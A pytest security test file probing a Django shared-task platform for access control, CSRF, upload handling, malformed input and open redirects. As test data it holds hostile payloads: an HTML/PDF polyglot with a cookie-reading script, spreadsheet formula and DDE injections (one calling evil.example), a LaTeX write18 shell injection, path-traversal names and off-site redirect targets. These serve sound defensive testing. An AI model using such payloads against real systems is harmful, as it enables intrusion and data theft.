"""An adversary's probe of the newer features (papers, the development phase, results versions,
the registration API, the audit trail, drafts): who may read or write what, what malformed input
answers, and what a paper looks like to a browser. One table per question; a row is a probe.

Personas on the bakeoff b2026 (PK: closed and open tracks): ``pat`` approved on PK closed,
``penny`` pending, ``rufus`` refused, ``elsa`` approved on PK open only, ``otto`` with no site,
``mal`` organiser of another bakeoff, ``olga`` the organiser, and anonymous.
"""

from __future__ import annotations

import csv
import io
import re
import time
from dataclasses import dataclass
from datetime import timedelta

import pytest
from django.contrib.auth.models import User
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.utils import timezone

from bakeoff import services
from bakeoff.middleware import zone_named
from bakeoff.models import (
    Bakeoff,
    Corpus,
    Invitation,
    ReaderSettings,
    Site,
    Submission,
    SystemPaper,
)
from leaderboard.services import do_publish
from tests.factories import (
    WORKED_RUN,
    close_submissions,
    make_bakeoff,
    make_corpus,
    make_site,
    make_user,
    publish,
    track,
    upload,
)
from tests.hints import OnCommit

pytestmark = pytest.mark.django_db

B = "/bakeoffs/b2026/"
# A PDF by its first and last bytes, HTML and a script in between: a polyglot.
POLYGLOT = b"%PDF-1.4\n<html><script>alert(document.cookie)</script></html>\n%%EOF\n"
HUGE = "9" * 25
PAGES = ("", "results.csv", "results.json", "results.tex")  # more than any database integer holds


@dataclass
class World:
    bakeoff: Bakeoff
    corpus: Corpus
    site: Site
    run: int
    people: dict[str, User | None]


@pytest.fixture
def world(
    bakeoff: Bakeoff,
    corpus: Corpus,
    site: Site,
    participant: User,
    organiser: User,
    outsider: User,
    on_commit: OnCommit,
) -> World:
    closed, open_ = track(corpus, "closed"), track(corpus, "open")
    penny, rufus, elsa, mal = (make_user(n) for n in ("penny", "rufus", "elsa", "mal"))
    make_site(bakeoff, penny, [closed], name="Pending", approved=False)
    refused = make_site(bakeoff, rufus, [closed], name="Refused", approved=False)
    services.do_refuse_registration(refused.registrations.get(), by=None, reason="no")
    make_site(bakeoff, elsa, [open_], name="Elsewhere")
    make_bakeoff(slug="other", organiser=mal)
    make_bakeoff(slug="draft", organiser=organiser, opened_at=None)
    services.do_attach_paper(participant, closed, upload=POLYGLOT, title="Our system")
    services.do_add_development_set(corpus, text=None, gold="我们 在 北京\n".encode(), by=organiser)
    run = upload(participant, closed, WORKED_RUN, on_commit)
    return World(
        bakeoff,
        corpus,
        site,
        run.pk,
        {
            "anonymous": None,
            "otto": outsider,
            "penny": penny,
            "rufus": rufus,
            "elsa": elsa,
            "mal": mal,
            "pat": participant,
            "olga": organiser,
        },
    )


def client(user: User | None, *, csrf: bool = False) -> Client:
    c = Client(enforce_csrf_checks=csrf, raise_request_exception=False)
    if user is not None:
        c.force_login(user)
    return c


# -- who may read or write what ------------------------------------------------------------------

# (method, path, the status of those named, everyone else's status). Anonymous is named where a
# login_required view sends them to sign in (302).
OWN = {"pat": 200, "olga": 200}
SIGN_IN = {"anonymous": 302}
PROBES = [
    ("get", "tracks/pk-closed/paper/{site}.pdf", OWN, 404),
    ("get", "corpora/PK/development/gold/", {**OWN, "elsa": 200}, 403),
    ("get", "audit/", {**SIGN_IN, "olga": 200}, 404),
    ("get", "audit.csv", {**SIGN_IN, "olga": 200}, 404),
    ("get", "submissions/{run}/", {**SIGN_IN, **OWN}, 404),
    ("post", "tracks/pk-closed/paper/", {**SIGN_IN, "pat": 302}, 403),
    ("post", "tracks/pk-open/paper/", {**SIGN_IN, "elsa": 302}, 403),
    ("post", "submissions/{run}/withdraw/", {**SIGN_IN, "pat": 302, "olga": 403}, 404),
    ("post", "corpora/PK/development/", {**SIGN_IN, "olga": 200}, 404),
    ("post", "corpora/PK/tracks/pk-closed/post-bakeoff/", {**SIGN_IN, "olga": 302}, 404),
    ("post", "results/erratum/", SIGN_IN, 404),  # nothing published yet: nothing to correct
    ("post", "results/withdraw/", {**SIGN_IN, "olga": 302}, 404),
]


@pytest.mark.parametrize(("method", "path", "named", "others"), PROBES)
def test_only_those_allowed_read_or_write(
    world: World, method: str, path: str, named: dict[str, int], others: int
) -> None:
    url = B + path.format(site=world.site.pk, run=world.run)
    form = {"url": "https://example.org/paper", "title": "t", "reason": "x", "open": "1"}
    for name, user in world.people.items():
        response = getattr(client(user), method)(url, form if method == "post" else None)
        assert response.status_code == named.get(name, others), (name, url, response.status_code)


def test_an_organiser_reaches_no_object_of_another_bakeoff_through_their_own(
    world: World,
) -> None:
    """Every number in an organiser's addresses is looked up within the bakeoff of the address."""
    pending = Site.objects.get(name="Pending").registrations.get()
    pat = world.people["pat"]
    assert pat is not None
    paths = [
        f"registrations/{pending.pk}/decide/",
        f"participants/{world.site.pk}/edit/",
        f"participants/{world.site.pk}/register/",
        f"participants/{world.site.pk}/members/{pat.pk}/remove/",
        f"submissions/{world.run}/",
        f"submissions/{world.run}/withdraw/",
    ]
    mal = client(world.people["mal"])
    for path in paths:
        for method in ("get", "post"):
            response = getattr(mal, method)("/bakeoffs/other/" + path, {"decision": "approve"})
            assert response.status_code in (403, 404, 405), (method, path, response.status_code)
    pending.refresh_from_db()
    assert pending.status == "pending"
    assert world.site.members.filter(pk=pat.pk).exists()
    assert Submission.objects.get(pk=world.run).withdrawn_at is None


def test_a_results_version_scheduled_for_later_is_nobodys_yet_but_the_organisers(
    world: World,
) -> None:
    close_submissions(world.bakeoff)
    do_publish(world.bakeoff, at=timezone.now() + timedelta(hours=1))
    closed = f"{B}results/v1/tracks/pk-closed/"
    for path in ("results/v1/", "results/v1/tracks/pk-closed/", "results/v1/f.svg"):
        for name in ("anonymous", "otto", "elsa", "pat"):
            assert client(world.people[name]).get(B + path).status_code == 404, (name, path)
    for suffix in ("results.csv", "results.json", "results.tex", f"runs/{world.run}/"):
        assert client(None).get(closed + suffix).status_code == 404, suffix


def test_published_results_cannot_be_withdrawn_by_their_organiser(world: World) -> None:
    publish(world.bakeoff)
    client(world.people["olga"]).post(B + "results/withdraw/")
    world.bakeoff.refresh_from_db()
    assert world.bakeoff.results_published is not None
    assert client(None).get(B + "results/v1/").status_code == 200


@pytest.mark.parametrize("moment", ["after the deadline", "after publication"])
def test_a_run_is_not_withdrawn_once_submissions_are_closed(world: World, moment: str) -> None:
    if moment == "after publication":
        publish(world.bakeoff)
    else:
        close_submissions(world.bakeoff)
    response = client(world.people["pat"]).post(f"{B}submissions/{world.run}/withdraw/")
    assert response.status_code == 403
    assert Submission.objects.get(pk=world.run).withdrawn_at is None


def test_nobody_but_its_organisers_finds_a_draft(world: World, organiser: User) -> None:
    draft = Bakeoff.objects.get(slug="draft")
    services.do_add_development_set(
        make_corpus(draft), text=None, gold="我们 在 北京\n".encode(), by=organiser
    )
    paths = (
        "",
        "results/",
        "audit/",
        "tracks/pk-closed/",
        "tracks/pk-closed/development/",
        "corpora/PK/development/gold/",
    )
    for name, user in world.people.items():
        for path in paths:
            status = client(user).get("/bakeoffs/draft/" + path).status_code
            assert status in ((200,) if name == "olga" else (302, 404)), (name, path, status)
        response = client(user).post(
            "/api/bakeoffs/draft/registrations/",
            {"tracks": [], "name": "N", "institution": "I"},
            content_type="application/json",
        )
        assert response.status_code in ((400,) if name == "olga" else (401, 403, 404)), name


def test_the_registration_api_registers_only_for_tracks_of_that_bakeoff(world: World) -> None:
    response = client(world.people["mal"]).post(
        "/api/bakeoffs/other/registrations/",
        {"tracks": ["pk-closed"], "name": "Sneaky", "institution": "I"},
        content_type="application/json",
    )
    assert response.status_code == 400
    assert response.json()["code"] == "unknown_track"
    assert not Site.objects.filter(name="Sneaky").exists()


@pytest.mark.parametrize("phase", ["test", "development", "post_bakeoff"])
def test_no_run_of_any_phase_from_a_site_not_approved_for_the_track(
    world: World, phase: str
) -> None:
    before = Submission.objects.count()
    for name in ("otto", "penny", "rufus", "elsa", "mal"):
        response = client(world.people[name]).post(
            "/api/bakeoffs/b2026/tracks/pk-closed/submissions/",
            {"file": SimpleUploadedFile("run.txt", "我们 在 北京\n".encode()), "phase": phase},
        )
        assert response.status_code in (403, 404), (name, response.status_code)
    assert Submission.objects.count() == before


@pytest.mark.parametrize(
    ("phase", "when", "code"),
    [
        ("development", "after the deadline", "deadline_passed"),
        ("test", "after the deadline", "deadline_passed"),
        ("post_bakeoff", "before publication", "not_released"),
    ],
)
def test_an_approved_site_uploads_only_within_the_phase(
    world: World, phase: str, when: str, code: str
) -> None:
    if when == "after the deadline":
        close_submissions(world.bakeoff)
    before = Submission.objects.count()
    response = client(world.people["pat"]).post(
        "/api/bakeoffs/b2026/tracks/pk-closed/submissions/",
        {"file": SimpleUploadedFile("run.txt", "我们 在 北京\n".encode()), "phase": phase},
    )
    assert response.status_code == 403, response.content
    assert response.json()["code"] == code
    assert Submission.objects.count() == before


def test_a_run_is_withdrawn_only_by_its_site_and_under_its_own_track(world: World) -> None:
    api = "/api/bakeoffs/{}/tracks/{}/submissions/{}/withdraw/"
    probes = [
        ("pat", api.format("b2026", "pk-open", world.run)),
        ("pat", api.format("other", "pk-closed", world.run)),
        ("elsa", api.format("b2026", "pk-closed", world.run)),
        ("mal", api.format("b2026", "pk-closed", world.run)),
    ]
    for name, url in probes:
        assert client(world.people[name]).post(url).status_code == 404, (name, url)
    assert Submission.objects.get(pk=world.run).withdrawn_at is None


def test_a_refused_site_applies_again_only_while_registration_is_open(world: World) -> None:
    registration = Site.objects.get(name="Refused").registrations.get()
    world.bakeoff.registration_closes = timezone.now() - timedelta(minutes=1)
    world.bakeoff.save(update_fields=["registration_closes"])
    response = client(world.people["rufus"]).post(
        "/api/bakeoffs/b2026/registrations/",
        {"tracks": ["pk-closed"], "resources_statement": "again"},
        content_type="application/json",
    )
    assert response.status_code == 400, response.content
    registration.refresh_from_db()
    assert registration.status == "refused"


def test_the_audit_csv_is_inert_whatever_a_site_is_named(world: World) -> None:
    evil = '=HYPERLINK("http://evil.example/?"&A2,"x")'
    response = client(world.people["otto"]).post(
        "/api/bakeoffs/b2026/registrations/",
        {"tracks": ["pk-closed"], "name": evil, "institution": "@SUM(1+1)*cmd|' /C calc'!A0"},
        content_type="application/json",
    )
    assert response.status_code == 201
    rows = list(csv.reader(io.StringIO(client(world.people["olga"]).get(B + "audit.csv").text)))
    assert any("HYPERLINK" in cell for row in rows for cell in row)
    assert not [cell for row in rows for cell in row if cell[:1] in ("=", "+", "-", "@")]


# -- CSRF on the newer forms ---------------------------------------------------------------------


@pytest.mark.parametrize(
    ("who", "path"),
    [
        ("pat", "tracks/pk-closed/paper/"),
        ("pat", "submissions/{run}/withdraw/"),
        ("olga", "corpora/PK/development/"),
        ("olga", "corpora/PK/tracks/pk-closed/post-bakeoff/"),
        ("olga", "results/erratum/"),
        ("olga", "results/withdraw/"),
        ("olga", "audit/"),
    ],
)
def test_a_post_without_its_csrf_token_is_refused(world: World, who: str, path: str) -> None:
    url = B + path.format(run=world.run)
    response = client(world.people[who], csrf=True).post(url, {"url": "https://e.org/", "x": 1})
    assert response.status_code == 403


def test_the_registration_api_refuses_a_session_without_csrf_token(world: World) -> None:
    response = client(world.people["otto"], csrf=True).post(
        "/api/bakeoffs/b2026/registrations/",
        {"tracks": ["pk-closed"], "name": "N", "institution": "I"},
        content_type="application/json",
    )
    assert response.status_code == 403
    assert not Site.objects.filter(name="N").exists()


# -- papers --------------------------------------------------------------------------------------


def test_a_paper_is_served_as_a_pdf_never_as_a_page(world: World) -> None:
    response = client(world.people["pat"]).get(f"{B}tracks/pk-closed/paper/{world.site.pk}.pdf")
    assert response.status_code == 200
    assert response["Content-Type"] == "application/pdf"
    assert response["X-Content-Type-Options"] == "nosniff"
    assert "script-src 'self'" in response["Content-Security-Policy"]
    assert response["Content-Disposition"] == 'inline; filename="b2026-pk-closed-S01.pdf"'


def test_a_paper_file_name_with_path_parts_is_stored_under_a_name_of_the_platform(
    world: World,
) -> None:
    pdf = SimpleUploadedFile("../../../etc/evil.html", POLYGLOT, content_type="text/html")
    response = client(world.people["pat"]).post(
        f"{B}tracks/pk-closed/paper/", {"file": pdf, "title": "t"}
    )
    assert response.status_code == 302
    name = str(SystemPaper.objects.get(site=world.site).file.name)
    assert ".." not in name and "evil" not in name and name.endswith(".pdf"), name


def test_a_paper_over_its_cap_is_refused_before_it_is_stored(world: World) -> None:
    body = b"%PDF-1.4\n" + b"0" * (services.PAPER_MAX_BYTES) + b"\n%%EOF\n"
    before = SystemPaper.objects.get(site=world.site).file.name
    response = client(world.people["pat"]).post(
        f"{B}tracks/pk-closed/paper/", {"file": SimpleUploadedFile("p.pdf", body), "title": "t"}
    )
    assert response.status_code in (200, 413)
    assert SystemPaper.objects.get(site=world.site).file.name == before


def test_a_paper_of_results_published_with_codes_is_not_served_to_readers(
    world: World,
) -> None:
    """The published table hides papers when it hides names (a paper names its authors); the
    file's address, a site's number, must not reveal them either."""
    publish(world.bakeoff, mode="anonymised")
    url = f"{B}tracks/pk-closed/paper/{world.site.pk}.pdf"
    for name in ("anonymous", "otto", "elsa", "mal"):
        assert client(world.people[name]).get(url).status_code == 404, name
    for name in ("pat", "olga"):
        assert client(world.people[name]).get(url).status_code == 200, name


@pytest.mark.parametrize("mode", ["anonymised", "names"])
def test_papers_are_linked_only_when_the_results_show_names(
    world: World, mode: str, on_commit: OnCommit
) -> None:
    elsa = world.people["elsa"]
    assert elsa is not None
    services.do_attach_paper(elsa, track(world.corpus, "open"), url="https://papers.example/elsa")
    upload(elsa, track(world.corpus, "open"), WORKED_RUN, on_commit)
    publish(world.bakeoff, mode=mode)
    paths = [f"tracks/{t}/{page}" for t in ("pk-closed", "pk-open") for page in PAGES]
    paths += [f"tracks/pk-closed/runs/{world.run}/", "results/"]
    linked = {
        path
        for path in paths
        if {"papers.example", "/paper/"} & set(re.findall(r"papers\.example|/paper/", get(path)))
    }
    assert linked == set() if mode == "anonymised" else linked, linked


def get(path: str) -> str:
    return client(None).get(B + path).text


def test_a_paper_of_results_published_with_names_is_served_to_everyone(world: World) -> None:
    publish(world.bakeoff)
    url = f"{B}tracks/pk-closed/paper/{world.site.pk}.pdf"
    assert client(None).get(url).status_code == 200


# -- malformed input answers 4xx, never 500 ------------------------------------------------------


@pytest.mark.parametrize(
    "path",
    [
        f"tracks/pk-closed/runs/{HUGE}/",
        f"tracks/pk-closed/runs/{HUGE}/comparison.txt",
        f"tracks/pk-closed/runs/{HUGE}/analysis/",
        f"tracks/pk-closed/paper/{HUGE}.pdf",
        f"submissions/{HUGE}/",
        f"results/v{HUGE}/",
        f"results/v{HUGE}/tracks/pk-closed/runs/{HUGE}/",
        f"participants/{HUGE}/edit/",
        f"organisers/{HUGE}/remove/",
        f"registrations/{HUGE}/decide/",
        f"corpora/PK/gold/{HUGE}/accept/",
    ],
)
def test_a_huge_number_in_an_address_is_not_found(world: World, path: str) -> None:
    for method in ("get", "post"):
        response = getattr(client(world.people["olga"]), method)(B + path)
        assert response.status_code in (404, 405), (method, response.status_code)
    api = f"/api/bakeoffs/b2026/tracks/pk-closed/submissions/{HUGE}/"
    assert client(world.people["olga"]).get(api).status_code == 404


@pytest.mark.parametrize(
    "query",
    [
        "audit/?track=abc&site=" + HUGE + "&since=garbage&until=2026-13-45&action=%00",
        "audit.csv?site=-1&track=" + HUGE,
        "results/?page=zz&domain=%00",
        "tracks/pk-closed/?sort=%00&page=" + HUGE,
        "tracks/pk-closed/domains/?figure=%00&sort=nonsense",
        "submissions/?page=" + HUGE,
        "registrations/?page=abc&status=%00",
        "tracks/pk-closed/runs/{run}/analysis/?domain=%00&with=abc",
        "tracks/pk-closed/runs/{run}/analysis/?domain=news&with=" + "9" * 5000,
        "tracks/pk-closed/?phase=%00",
        "tracks/pk-closed/upload/?phase=nonsense",
    ],
)
def test_malformed_parameters_are_ignored_or_refused(world: World, query: str) -> None:
    response = client(world.people["olga"]).get(B + query.format(run=world.run))
    assert response.status_code in (200, 400, 404), response.status_code


@pytest.mark.parametrize(
    "query", ["page=abc", f"page={HUGE}", "page=-1", "cursor=zzz", "page_size=100000000"]
)
def test_the_api_list_answers_a_malformed_page_with_4xx_json(world: World, query: str) -> None:
    response = client(world.people["pat"]).get(
        f"/api/bakeoffs/b2026/tracks/pk-closed/submissions/?{query}"
    )
    assert response.status_code in (200, 400, 404), response.status_code
    assert response["Content-Type"] == "application/json"


@pytest.mark.parametrize("body", ["[1, 2]", '"pk-closed"', "null", "42", '{"tracks": [1]}'])
def test_the_registration_api_refuses_a_body_that_is_not_a_registration(
    world: World, body: str
) -> None:
    response = client(world.people["otto"]).post(
        "/api/bakeoffs/b2026/registrations/", body, content_type="application/json"
    )
    assert response.status_code == 400
    assert response.json()["code"] == "invalid"


@pytest.mark.parametrize(
    ("language", "zone"), [("xx", ""), ("", "../../etc/passwd"), ("zh-hans", "Mars/Olympus_Mons")]
)
def test_reader_settings_keep_only_known_languages_and_zones(
    world: World, language: str, zone: str
) -> None:
    otto = client(world.people["otto"])
    assert otto.post("/account/", {"language": language, "time_zone": zone}).status_code == 200
    otto.post("/i18n/setlang/", {"language": "xx-evil"})
    assert not ReaderSettings.objects.exists()


def test_a_time_zone_cookie_costs_no_walk_of_the_zone_database(world: World) -> None:
    """Every browser sends the zone it reports with every request; a made-up one too."""
    reader = client(None)
    for zone in ("Asia/Shanghai", "Mars/Olympus_Mons", "../../etc/passwd"):
        reader.cookies["bakeoff_tz"] = zone
        assert reader.get("/").status_code == 200
    started = time.perf_counter()
    for _ in range(200):
        zone_named("Asia/Taipei")
        zone_named("Mars/Olympus_Mons")
    assert time.perf_counter() - started < 1.0  # listing the zones each time: some 6 s


def test_signing_up_or_resetting_a_password_does_not_tell_which_addresses_have_accounts(
    world: World,
) -> None:
    User.objects.filter(username="pat").update(email="pat@example.org")

    def answers(email: str) -> list[tuple[int, str]]:
        signup = client(None).post(
            "/accounts/signup/",
            {
                "email": email,
                "password1": "a long passphrase 42",
                "password2": "a long passphrase 42",
            },
        )
        reset = client(None).post("/accounts/password/reset/", {"email": email})
        return [(r.status_code, r.get("Location", "")) for r in (signup, reset)]

    assert answers("pat@example.org") == answers("nobody@example.org")


def test_domain_labels_are_inert_on_the_page_and_in_the_exports(
    world: World, on_commit: OnCommit
) -> None:
    labels = "<script>alert(1)</script>\n=HYPERLINK(1)\n}\\immediate\\write18{ls}\n"
    with on_commit():
        corpus = make_corpus(world.bakeoff, abbreviation="XS", domains=labels)
    xs = track(corpus, "closed")
    make_site(world.bakeoff, author := make_user("xs-author"), [xs], name="XS team")
    upload(author, xs, WORKED_RUN, on_commit)
    publish(world.bakeoff)
    base = f"{B}tracks/{xs.slug}/"
    page = client(None).get(base + "domains/").text
    assert "<script>alert" not in page and "&lt;script&gt;alert" in page
    rows = list(csv.reader(io.StringIO(client(None).get(base + "results.csv").text)))
    assert not [cell for row in rows for cell in row if cell[:1] in ("=", "+", "@")]
    tex = client(None).get(base + "results.tex").text
    assert "write18" in tex
    assert "\\immediate" not in tex.replace("\\textbackslash{}immediate", "")


def test_an_organisers_invitation_does_not_tell_whether_the_address_has_an_account(
    world: World,
) -> None:
    """An organiser of one bakeoff learns nothing of the accounts of another's participants."""
    User.objects.filter(username="pat").update(email="pat@example.org")
    mal = client(world.people["mal"])
    answers = [
        mal.post("/bakeoffs/other/participants/invite/", {"email": email})
        for email in ("pat@example.org", "nobody@example.org")
    ]
    assert [a.status_code for a in answers] == [302, 302]
    assert answers[0]["Location"] == answers[1]["Location"]
    assert Invitation.objects.filter(bakeoff__slug="other").count() == 2


# -- redirects stay on the site ------------------------------------------------------------------


@pytest.mark.parametrize(
    "next_url", ["https://evil.example/", "//evil.example/", "/\\evil.example/", "javascript:x"]
)
def test_next_never_leaves_the_site(world: World, next_url: str) -> None:
    Corpus.objects.filter(pk=world.corpus.pk).update(licence="Use for research only.")
    answers = [
        client(world.people["otto"]).post(
            "/i18n/setlang/", {"language": "zh-hans", "next": next_url}
        ),
        client(world.people["pat"]).post(f"{B}corpora/PK/agreement/", {"next": next_url}),
        client(None).post(
            "/accounts/login/?next=" + next_url, {"login": "pat", "password": "pw-pat"}
        ),
    ]
    for response in answers:
        assert response.status_code == 302
        assert "evil" not in response["Location"] and "javascript" not in response["Location"]
